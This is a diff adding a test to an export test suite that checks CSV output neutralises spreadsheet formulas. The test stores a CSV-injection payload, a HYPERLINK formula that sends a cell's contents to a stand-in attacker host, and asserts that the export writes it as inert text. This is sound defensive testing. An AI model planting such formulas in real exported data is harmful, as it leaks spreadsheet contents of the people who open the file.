@@ -10,6 +10,7 @@ import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { mintDevelopmentToken } from '../scripts/token.js';
+import { organisationCode, random } from '../scripts/demo-data.js';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { callerHeaders, startTestHub, type TestHub } from './env.js';
@@ -118,6 +119,21 @@ describe('GET /export/<department>.csv', () => {
 
     const post = await fetch(exportUrl('/export/courts.csv'), { method: 'POST' });
     expect(post.status).toBe(405);
+  });
+
+  it('writes a recorded formula as text, so a spreadsheet does not run it', async () => {
+    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-formula' };
+    const formula = '=HYPERLINK("http://evil.example/?"&F3,"详情")';
+    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
+      input: {
+        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(4242), '440300'), subjectName: formula, facts: '+1+1',
+        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-公式',
+      },
+    });
+    expect(recognised.errors).toBeUndefined();
+    const { text } = await exportCsv(courts);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&F3,""详情"")"`);
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 });
 
